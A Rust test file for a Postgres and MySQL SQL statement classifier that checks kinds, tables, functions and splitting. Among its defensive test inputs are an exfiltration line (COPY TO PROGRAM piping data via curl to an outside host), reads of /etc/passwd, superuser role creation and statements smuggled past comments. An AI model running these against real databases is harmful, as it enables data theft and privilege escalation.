use super::*;
use Dialect::{Mysql as My, Postgres as Pg};

/// Expected classification of one statement: kinds, tables, functions,
/// has_where ("-" = None, "t"/"f").
type Want = (&'static str, &'static str, &'static str, &'static str);

fn kinds(s: &str) -> Vec<StatementKind> {
    s.split(',')
        .filter(|x| !x.is_empty())
        .map(|x| x.parse().unwrap())
        .collect()
}

fn names(s: &str) -> Vec<String> {
    s.split(',')
        .filter(|x| !x.is_empty())
        .map(str::to_owned)
        .collect()
}

fn check(d: Dialect, sql: &str, want: &[Want]) -> Result<(), String> {
    let got = classify(sql, d).map_err(|e| format!("{d:?} {sql:?}: unexpected error {e}"))?;
    if got.len() != want.len() {
        return Err(format!(
            "{d:?} {sql:?}: want {} statements, got {got:#?}",
            want.len()
        ));
    }
    for (g, (k, t, f, w)) in got.iter().zip(want) {
        let hw = match *w {
            "t" => Some(true),
            "f" => Some(false),
            _ => None,
        };
        if g.kinds != kinds(k)
            || g.tables != names(t)
            || g.functions != names(f)
            || g.has_where != hw
        {
            return Err(format!(
                "{d:?} {sql:?}\n  want kinds={k} tables={t} functions={f} has_where={w}\n  got  {g:?}"
            ));
        }
    }
    Ok(())
}

#[test]
fn postgres_statements() {
    let cases: &[(&str, &[Want])] = &[
        // pgbench (TPC-B like), with bind parameters.
        (
            "UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2;",
            &[("update", "pgbench_accounts", "", "t")],
        ),
        (
            "SELECT abalance FROM pgbench_accounts WHERE aid = $1",
            &[("select", "pgbench_accounts", "", "-")],
        ),
        (
            "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)",
            &[("insert", "pgbench_history", "CURRENT_TIMESTAMP", "-")],
        ),
        ("END;", &[("commit", "", "", "-")]),
        // pgbench initialisation.
        (
            "drop table if exists pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
            &[(
                "drop",
                "pgbench_accounts,pgbench_branches,pgbench_history,pgbench_tellers",
                "",
                "-",
            )],
        ),
        (
            "create table pgbench_history(tid int,bid int,aid    int,delta int,mtime timestamp,filler char(22))",
            &[("create", "pgbench_history", "", "-")],
        ),
        (
            "truncate table pgbench_accounts, pgbench_branches, pgbench_history, pgbench_tellers",
            &[(
                "truncate",
                "pgbench_accounts,pgbench_branches,pgbench_history,pgbench_tellers",
                "",
                "-",
            )],
        ),
        (
            "copy pgbench_accounts from stdin with (freeze on)",
            &[("copy", "pgbench_accounts", "", "-")],
        ),
        (
            "vacuum analyze pgbench_branches",
            &[("vacuum,analyze", "pgbench_branches", "", "-")],
        ),
        (
            "VACUUM (VERBOSE, ANALYZE) t1, public.t2 (a, b)",
            &[("vacuum,analyze", "t1,public.t2", "", "-")],
        ),
        ("VACUUM", &[("vacuum", "", "", "-")]),
        (
            "alter table pgbench_branches add primary key (bid)",
            &[("alter", "pgbench_branches", "", "-")],
        ),
        // psql \d and \dt catalog queries.
        (
            "SELECT c.oid,\n  n.nspname,\n  c.relname\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\nWHERE c.relname OPERATOR(pg_catalog.~) '^(users)$' COLLATE pg_catalog.default\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 2, 3;",
            &[(
                "select",
                "pg_catalog.pg_class,pg_catalog.pg_namespace",
                "pg_catalog.pg_table_is_visible",
                "-",
            )],
        ),
        (
            "SELECT n.nspname as \"Schema\",\n  c.relname as \"Name\",\n  CASE c.relkind WHEN 'r' THEN 'table' WHEN 'v' THEN 'view' WHEN 'm' THEN 'materialized view' WHEN 'i' THEN 'index' WHEN 'S' THEN 'sequence' WHEN 't' THEN 'TOAST table' WHEN 'f' THEN 'foreign table' WHEN 'p' THEN 'partitioned table' WHEN 'I' THEN 'partitioned index' END as \"Type\",\n  pg_catalog.pg_get_userbyid(c.relowner) as \"Owner\"\nFROM pg_catalog.pg_class c\n     LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace\n     LEFT JOIN pg_catalog.pg_am am ON am.oid = c.relam\nWHERE c.relkind IN ('r','p','')\n      AND n.nspname <> 'pg_catalog'\n      AND n.nspname !~ '^pg_toast'\n      AND n.nspname <> 'information_schema'\n  AND pg_catalog.pg_table_is_visible(c.oid)\nORDER BY 1,2;",
            &[(
                "select",
                "pg_catalog.pg_class,pg_catalog.pg_namespace,pg_catalog.pg_am",
                "pg_catalog.pg_get_userbyid,pg_catalog.pg_table_is_visible",
                "-",
            )],
        ),
        (
            "SELECT a.attname, pg_catalog.format_type(a.atttypid, a.atttypmod) FROM pg_catalog.pg_attribute a WHERE a.attrelid = '16384' AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum",
            &[(
                "select",
                "pg_catalog.pg_attribute",
                "pg_catalog.format_type",
                "-",
            )],
        ),
        // Transactions split into statements.
        (
            "BEGIN; UPDATE accounts SET balance = 0; COMMIT;",
            &[
                ("begin", "", "", "-"),
                ("update", "accounts", "", "f"),
                ("commit", "", "", "-"),
            ],
        ),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE; ROLLBACK",
            &[("begin", "", "", "-"), ("rollback", "", "", "-")],
        ),
        (
            "SAVEPOINT s; RELEASE SAVEPOINT s; ROLLBACK TO SAVEPOINT s",
            &[
                ("savepoint", "", "", "-"),
                ("release", "", "", "-"),
                ("rollback", "", "", "-"),
            ],
        ),
        // CTEs.
        (
            "WITH d AS (DELETE FROM t WHERE a < 5 RETURNING *) SELECT * FROM d",
            &[("select,delete", "t,d", "", "t")],
        ),
        (
            "WITH d AS (DELETE FROM t RETURNING *) INSERT INTO archive SELECT * FROM d",
            &[("insert,delete", "t,archive,d", "", "f")],
        ),
        (
            "WITH x AS (SELECT 1) DELETE FROM t",
            &[("delete", "t", "", "f")],
        ),
        (
            "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 10) SELECT sum(n) FROM r",
            &[("select", "r", "sum", "-")],
        ),
        // Functions anywhere.
        (
            "SELECT pg_read_file('/etc/passwd')",
            &[("select", "", "pg_read_file", "-")],
        ),
        (
            "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE lower(x) = 'y')",
            &[("select", "t,u", "lower", "-")],
        ),
        (
            "SELECT * FROM generate_series(1, 10) g, pg_ls_dir('.') d",
            &[("select", "", "generate_series,pg_ls_dir", "-")],
        ),
        (
            "SELECT set_config('search_path', 'evil', false)",
            &[("select", "", "set_config", "-")],
        ),
        (
            "UPDATE t SET a = upper(b) WHERE c = now()",
            &[("update", "t", "upper,now", "t")],
        ),
        (
            "INSERT INTO t SELECT * FROM u JOIN v USING (id)",
            &[("insert", "t,u,v", "", "-")],
        ),
        (
            "SELECT * FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.id = a.id)",
            &[("select", "a,b", "", "-")],
        ),
        (
            "SELECT * INTO newt FROM t",
            &[("select,create", "newt,t", "", "-")],
        ),
        (
            "CREATE TABLE x AS SELECT * FROM y",
            &[("create", "x,y", "", "-")],
        ),
        // COPY.
        (
            "COPY (SELECT * FROM users) TO STDOUT WITH CSV HEADER",
            &[("copy", "users", "", "-")],
        ),
        (
            "COPY public.users (id, email) TO STDOUT",
            &[("copy", "public.users", "", "-")],
        ),
        (
            "COPY t TO PROGRAM 'curl -d @- https://example.com'",
            &[("copy", "t", "", "-")],
        ),
        // Text after COPY ... FROM STDIN; is SQL over the wire, not data.
        (
            "COPY t FROM STDIN;\nDROP TABLE users;",
            &[("copy", "t", "", "-"), ("drop", "users", "", "-")],
        ),
        (
            "COPY t FROM STDIN; SELECT 1;\nDELETE FROM x",
            &[
                ("copy", "t", "", "-"),
                ("select", "", "", "-"),
                ("delete", "x", "", "f"),
            ],
        ),
        // DO blocks (body not inspected).
        (
            "DO $$ BEGIN RAISE NOTICE 'x'; END $$",
            &[("do", "", "", "-")],
        ),
        (
            "DO LANGUAGE plpgsql $body$ BEGIN DELETE FROM x; END $body$;",
            &[("do", "", "", "-")],
        ),
        (
            "do 'begin perform 1; end' language plpgsql",
            &[("do", "", "", "-")],
        ),
        // EXPLAIN / PREPARE.
        (
            "EXPLAIN ANALYZE DELETE FROM t",
            &[("explain,delete", "t", "", "f")],
        ),
        ("EXPLAIN DELETE FROM t", &[("explain", "t", "", "-")]),
        (
            "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2",
            &[("explain,update", "t", "", "t")],
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM t",
            &[("explain", "t", "", "-")],
        ),
        (
            "EXPLAIN (COSTS off) DELETE FROM t",
            &[("explain", "t", "", "-")],
        ),
        (
            "PREPARE p (int) AS DELETE FROM t WHERE id = $1",
            &[("prepare,delete", "t", "", "t")],
        ),
        ("EXECUTE p(1)", &[("execute", "", "", "-")]),
        ("DEALLOCATE ALL", &[("deallocate", "", "", "-")]),
        // Session and utility statements.
        ("SET search_path = public", &[("set", "", "", "-")]),
        ("SET ROLE postgres", &[("set", "", "", "-")]),
        (
            "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            &[("set", "", "", "-")],
        ),
        ("ABORT", &[("rollback", "", "", "-")]),
        ("VALUES (1), (2)", &[("select", "", "", "-")]),
        (
            "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO bob",
            &[("grant", "", "", "-")],
        ),
        ("SHOW search_path", &[("show", "", "", "-")]),
        ("RESET ALL", &[("reset", "", "", "-")]),
        ("DISCARD ALL", &[("discard", "", "", "-")]),
        (
            "LISTEN ch; NOTIFY ch, 'x'; UNLISTEN ch",
            &[
                ("listen", "", "", "-"),
                ("notify", "", "", "-"),
                ("unlisten", "", "", "-"),
            ],
        ),
        (
            "LOCK TABLE t IN ACCESS EXCLUSIVE MODE",
            &[("lock", "t", "", "-")],
        ),
        ("CALL proc(1)", &[("call", "", "proc", "-")]),
        ("COMMENT ON TABLE t IS 'x'", &[("comment", "t", "", "-")]),
        ("GRANT SELECT ON t TO bob", &[("grant", "t", "", "-")]),
        ("GRANT admin TO bob", &[("grant", "", "", "-")]),
        ("REVOKE ALL ON t FROM bob", &[("revoke", "t", "", "-")]),
        ("ANALYZE t", &[("analyze", "t", "", "-")]),
        (
            "REFRESH MATERIALIZED VIEW mv",
            &[("refresh", "mv", "", "-")],
        ),
        (
            "DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c; CLOSE c",
            &[
                ("declare", "t", "", "-"),
                ("fetch", "", "", "-"),
                ("close", "", "", "-"),
            ],
        ),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v",
            &[("merge", "t,s", "", "-")],
        ),
        (
            "CREATE INDEX CONCURRENTLY i ON t (c)",
            &[("create", "t", "", "-")],
        ),
        ("CREATE ROLE evil SUPERUSER", &[("create", "", "", "-")]),
        ("ALTER ROLE ci WITH PASSWORD 'x'", &[("alter", "", "", "-")]),
        ("DROP SCHEMA public CASCADE", &[("drop", "", "", "-")]),
        ("DROP VIEW v", &[("drop", "v", "", "-")]),
        (
            "CREATE EXTENSION IF NOT EXISTS dblink",
            &[("create", "", "", "-")],
        ),
        // Strings, comments and quoted identifiers never split.
        (
            "SELECT 'a;b'; SELECT $$;$$",
            &[("select", "", "", "-"), ("select", "", "", "-")],
        ),
        ("SELECT 1 -- ; DROP TABLE x\n", &[("select", "", "", "-")]),
        (
            "/* ; */ SELECT \"we;ird\" FROM \"My Table\"",
            &[("select", "My Table", "", "-")],
        ),
        ("SELECT E'it\\'s;'", &[("select", "", "", "-")]),
        (";;SELECT 1;;", &[("select", "", "", "-")]),
    ];
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(s, w)| check(Pg, s, w).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn mysql_statements() {
    let cases: &[(&str, &[Want])] = &[
        // What the mysql client sends on connect.
        (
            "select @@version_comment limit 1",
            &[("select", "", "", "-")],
        ),
        (
            "SELECT DATABASE(), USER() LIMIT 1",
            &[("select", "", "DATABASE,USER", "-")],
        ),
        ("SHOW TABLES", &[("show", "", "", "-")]),
        ("SHOW DATABASES", &[("show", "", "", "-")]),
        ("SHOW FULL PROCESSLIST", &[("show", "", "", "-")]),
        ("SHOW VARIABLES LIKE 'version%'", &[("show", "", "", "-")]),
        ("SHOW CREATE TABLE t", &[("show", "t", "", "-")]),
        ("USE db", &[("use", "", "", "-")]),
        ("SET NAMES utf8mb4", &[("set", "", "", "-")]),
        ("SET autocommit=0", &[("set", "", "", "-")]),
        ("DESCRIBE t", &[("describe", "t", "", "-")]),
        ("EXPLAIN t", &[("describe", "t", "", "-")]),
        // Backtick identifiers.
        (
            "SELECT * FROM `my db`.`t` WHERE `x` = \"str\"",
            &[("select", "my db.t", "", "-")],
        ),
        (
            "UPDATE `users` SET `name` = 'x' WHERE `id` = 1",
            &[("update", "users", "", "t")],
        ),
        // DML.
        ("REPLACE INTO t VALUES (1)", &[("insert", "t", "", "-")]),
        (
            "INSERT INTO t (a) VALUES (1) ON DUPLICATE KEY UPDATE a = 2",
            &[("insert", "t", "", "-")],
        ),
        ("DELETE FROM t LIMIT 10", &[("delete", "t", "", "f")]),
        (
            "DELETE t1 FROM t1 JOIN t2 ON t1.id = t2.id WHERE t2.x = 1",
            &[("delete", "t1,t2", "", "t")],
        ),
        (
            "UPDATE t1 JOIN t2 ON t1.id = t2.id SET t1.a = t2.b",
            &[("update", "t1,t2", "", "f")],
        ),
        ("SELECT SLEEP(5)", &[("select", "", "SLEEP", "-")]),
        (
            "SELECT LOAD_FILE('/etc/passwd')",
            &[("select", "", "LOAD_FILE", "-")],
        ),
        // Transactions and locks.
        (
            "START TRANSACTION; UPDATE t SET a = 1 WHERE id = 2; COMMIT",
            &[
                ("begin", "", "", "-"),
                ("update", "t", "", "t"),
                ("commit", "", "", "-"),
            ],
        ),
        (
            "LOCK TABLES t WRITE; UNLOCK TABLES",
            &[("lock", "t", "", "-"), ("unlock", "", "", "-")],
        ),
        // DDL and admin.
        (
            "CREATE TABLE t (id INT PRIMARY KEY AUTO_INCREMENT) ENGINE=InnoDB",
            &[("create", "t", "", "-")],
        ),
        ("DROP TABLE IF EXISTS `t`", &[("drop", "t", "", "-")]),
        ("TRUNCATE TABLE t", &[("truncate", "t", "", "-")]),
        ("RENAME TABLE a TO b", &[("alter", "a,b", "", "-")]),
        ("ALTER TABLE t ADD COLUMN c INT", &[("alter", "t", "", "-")]),
        (
            "GRANT ALL ON db.* TO 'u'@'%'",
            &[("grant", "db.*", "", "-")],
        ),
        ("KILL 5", &[("kill", "", "", "-")]),
        ("FLUSH PRIVILEGES", &[("flush", "", "", "-")]),
        ("CALL p()", &[("call", "", "p", "-")]),
        ("EXPLAIN SELECT 1", &[("explain", "", "", "-")]),
        // Comments.
        (
            "SELECT 1 # comment ; DROP TABLE x",
            &[("select", "", "", "-")],
        ),
        (
            "SELECT 1 -- c\n; SELECT 2",
            &[("select", "", "", "-"), ("select", "", "", "-")],
        ),
    ];
    let failures: Vec<String> = cases
        .iter()
        .filter_map(|(s, w)| check(My, s, w).err())
        .collect();
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n\n")
    );
}

#[test]
fn statement_text_is_the_original_slice() {
    let sql = "  BEGIN ;\n  UPDATE t SET a = 'x;y' -- note\n WHERE id = 1;\n\n/* c */ COMMIT  ";
    let got = classify(sql, Pg).unwrap();
    let texts: Vec<&str> = got.iter().map(|s| s.text.as_str()).collect();
    assert_eq!(
        texts,
        [
            "BEGIN",
            "UPDATE t SET a = 'x;y' -- note\n WHERE id = 1",
            "/* c */ COMMIT"
        ]
    );
    // Non-ASCII text before a delimiter keeps byte offsets right.
    let got = classify("SELECT 'é€😀'; SELECT 2", Pg).unwrap();
    assert_eq!(got[0].text, "SELECT 'é€😀'");
    assert_eq!(got[1].text, "SELECT 2");
    assert_eq!(got[1].kind(), StatementKind::Select);
}

#[test]
fn empty_inputs() {
    for d in [Pg, My] {
        for s in [
            "",
            "   ",
            "\n\t",
            ";",
            " ; ; ",
            "-- only a comment",
            "/* block */",
            "-- a\n/* b */ ;",
        ] {
            assert_eq!(classify(s, d), Ok(vec![]), "{d:?} {s:?}");
        }
    }
}

#[test]
fn errors_fail_the_whole_string() {
    let cases: &[(Dialect, &str)] = &[
        (Pg, "SELEC 1"),
        (Pg, "SELECT 1; SELEC 2; DROP TABLE users"),
        (Pg, "DROP TABLE users; FROBNICATE"),
        (Pg, "SELECT 1 END"),
        (Pg, "SELECT 'unterminated"),
        (Pg, "SELECT 1 /* unterminated"),
        (Pg, "CHECKPOINT"),
        (Pg, "DO $$ x $$ garbage"),
        (Pg, "COPY (SELEC 1) TO STDOUT"),
        (Pg, "VACUUM (VERBOSE t"),
        (My, "SELECT * FROM t INTO OUTFILE '/tmp/x'"),
        (My, "LOAD DATA LOCAL INFILE '/tmp/x' INTO TABLE t"),
        (Pg, "REINDEX TABLE t"),
        (Pg, "TABLE users"),
        // A statement hidden in a versioned comment with a delimiter.
        (My, "SELECT 1 /*! ; DROP TABLE x */"),
        (My, "SELECT 1; DELETE"),
    ];
    for (d, s) in cases {
        assert!(
            classify(s, *d).is_err(),
            "{d:?} {s:?} should fail: {:?}",
            classify(s, *d)
        );
    }
    match classify("SELECT 1; SELEC 2", Pg) {
        Err(SqlError::Parse { index, message }) => {
            assert_eq!(index, 2);
            assert!(message.contains("SELEC"), "{message}");
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        classify("SELECT 'x", Pg),
        Err(SqlError::Tokenize(_))
    ));
}

#[test]
fn shapes() {
    let cases: &[(Dialect, &str, &str)] = &[
        (
            Pg,
            "SELECT * FROM t WHERE a = 1 AND b = 'x'  ;",
            "select * from t where a = ? and b = ?",
        ),
        (
            Pg,
            "select  $1, 'x' -- c\n from \"T\"",
            "select ?, ? from \"T\"",
        ),
        (
            Pg,
            "UPDATE pgbench_accounts SET abalance = abalance + 42 WHERE aid = 7",
            "update pgbench_accounts set abalance = abalance + ? where aid = ?",
        ),
        (
            Pg,
            "update PGBENCH_ACCOUNTS  set abalance=abalance+1 where aid=9;",
            "update PGBENCH_ACCOUNTS set abalance=abalance+? where aid=?",
        ),
        (Pg, "SELECT $$body$$, E'x', -3.5e2", "select ?, ?, -?"),
        (Pg, "BEGIN; SELECT 1; COMMIT;", "begin; select ?; commit"),
        (
            My,
            "SELECT * FROM `t` WHERE name = \"bob\" LIMIT 10",
            "select * from `t` where name = ? limit ?",
        ),
        (My, "select ? , ?", "select ? , ?"),
        // Tokenizer errors fall back to collapsed whitespace.
        (Pg, "SELECT  'unterminated\n  x", "SELECT 'unterminated x"),
        (Pg, "", ""),
    ];
    for (d, s, want) in cases {
        assert_eq!(shape(s, *d), *want, "{d:?} {s:?}");
    }
    // Same shape for different literals.
    assert_eq!(
        shape("SELECT * FROM t WHERE id = 1", Pg),
        shape("select *  from t where id = 99", Pg)
    );
}

#[test]
fn kind_names() {
    for k in StatementKind::ALL {
        assert_eq!(k.as_str().parse::<StatementKind>(), Ok(*k));
        assert_eq!(k.to_string(), k.as_str());
        assert_eq!(
            serde_json::to_string(k).unwrap(),
            format!("\"{}\"", k.as_str())
        );
    }
    let e = "dorp".parse::<StatementKind>().unwrap_err();
    assert!(
        e.starts_with("unknown statement kind \"dorp\" (expected one of: select, insert,"),
        "{e}"
    );
}
